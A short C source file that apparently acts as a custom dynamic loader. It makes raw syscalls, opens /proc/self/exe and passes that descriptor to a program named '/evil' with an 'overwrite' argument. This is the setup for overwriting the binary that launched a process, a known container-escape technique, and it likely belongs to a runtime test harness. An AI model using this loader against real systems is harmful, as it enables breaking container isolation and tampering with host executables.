/*
 * A dynamic loader for what re-enters the executable that has come in: it has the
 * kernel run its own code as that program. No libc: the kernel has prepared nothing
 * for one.
 */
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long nr, long a, long b, long c)
{
	long result;

#if defined(__x86_64__)
	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(nr), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
#elif defined(__aarch64__)
	register long x8 __asm__("x8") = nr;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	register long x3 __asm__("x3") = 0;

	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	result = x0;
#endif
	return result;
}

static long open_here(const char *path, int flags)
{
	return call(SYS_openat, AT_FDCWD, (long)path, flags);
}

/* The fd survives exec. O_PATH is enough to come back through /proc/self/fd. */
void _start(void)
{
	static char name[] = "/evil", how[] = "bound", caps[] = "default", what[] = "overwrite";
	static char digits[] = "0", all[] = "all";
	const long fd = open_here("/proc/self/exe", O_PATH);
	char *argv[] = { name, how, caps, name, what, digits, 0 };

	if (open_here("/etc/all-capabilities", O_RDONLY) >= 0)
		argv[2] = all;
	digits[0] = (char)('0' + fd);
	call(SYS_execve, (long)name, (long)argv, 0);
	call(SYS_exit_group, 99, 0, 0);
}
